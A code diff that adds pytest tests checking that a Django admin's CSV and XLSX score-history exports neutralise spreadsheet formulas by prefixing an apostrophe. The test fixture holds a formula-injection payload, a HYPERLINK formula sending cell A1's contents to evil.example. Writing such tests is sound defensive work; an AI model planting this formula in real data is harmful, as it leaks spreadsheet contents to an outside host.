@@ -1,3 +1,4 @@
+import csv
 import io
 
 from django.urls import reverse
@@ -29,3 +30,23 @@ def test_history_export_xlsx_respects_filters(client, judge, members, central_us
     response = client.get(reverse("admin:committee_scorechange_export") + "?province=TH-83&format=xlsx")
     rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
     assert (len(rows), rows[1][2], rows[1][7]) == (2, "TH-83", "5.00")
+
+
+HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
+
+
+def test_history_export_csv_neutralises_formula_in_note(client, judge, members, chair, chiang_mai):
+    judge(members[0], chiang_mai, "4.1.1", points="3", note=HOSTILE_NOTE)
+    client.force_login(chair)
+    response = client.get(reverse("admin:committee_scorechange_export") + "?format=csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[1][10] == "'" + HOSTILE_NOTE
+
+
+def test_history_export_xlsx_neutralises_formula_in_note(client, judge, members, chair, chiang_mai):
+    judge(members[0], chiang_mai, "4.1.1", points="3", note=HOSTILE_NOTE)
+    client.force_login(chair)
+    response = client.get(reverse("admin:committee_scorechange_export") + "?format=xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cell = sheet.cell(row=2, column=11)
+    assert (cell.data_type, cell.value) == ("s", "'" + HOSTILE_NOTE)
